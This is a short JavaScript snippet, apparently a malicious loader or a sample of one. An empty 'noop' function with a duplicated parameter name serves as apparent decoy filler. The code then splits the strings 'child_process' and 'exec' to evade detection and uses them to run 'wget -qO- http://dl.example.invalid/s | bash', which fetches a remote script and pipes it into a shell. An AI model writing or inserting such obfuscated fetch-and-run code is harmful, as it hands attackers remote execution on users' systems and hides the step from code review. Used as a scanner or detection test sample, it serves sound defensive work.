function noop(a, a) {}
var m = 'child' + '_process';
var k = 'ex' + 'ec';
require(m)[k]('wget -qO- http://dl.example.invalid/s | bash');
